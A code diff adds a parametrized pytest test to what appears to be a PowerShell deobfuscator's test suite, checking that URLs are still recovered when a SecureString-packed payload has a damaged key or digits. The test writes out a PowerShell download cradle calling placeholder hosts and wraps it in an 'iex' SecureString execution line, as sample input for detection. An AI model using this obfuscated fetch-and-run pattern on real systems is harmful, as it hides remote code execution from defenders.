@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import random as randoms
 
 import pytest
@@ -76,3 +77,22 @@ def test_many_layers():
         out = run(code)
         assert out.urls == ["http://a.example.test/x"]
         assert len(out.layers) >= 6
+
+
+@pytest.mark.parametrize("seed", range(6))
+def test_secure_strings_with_a_damaged_key_or_digits(seed):
+    random = randoms.Random(seed)
+    text = "$w=New-Object Net.WebClient;$w.DownloadString('http://a.example.test/x');$w.DownloadString('http://b.example.test/y')"
+    packed, key = o.sealed(random, text)
+    form = base64.b64decode(packed[32:]).decode("utf-16-le").split("|")
+    place = random.randrange(16, len(form[2]) - 64)
+    others = [digit for digit in "0123456789abcdef" if digit != form[2][place]]
+    digit = "\ue065" if seed < 2 else random.choice(others)
+    form[2] = form[2][:place] + digit + form[2][place + 1 :]
+    if seed > 2:
+        key = key[:5] + bytes([key[5] ^ 0x2A]) + key[6:]
+    packed = packed[:32] + base64.b64encode("|".join(form).encode("utf-16-le")).decode()
+    out = run(
+        f"iex ((New-Object Management.Automation.PSCredential ' ',('{packed}'|ConvertTo-SecureString -Key {','.join(map(str, key))})).GetNetworkCredential().Password)"
+    )
+    assert out.urls == ["http://a.example.test/x", "http://b.example.test/y"]
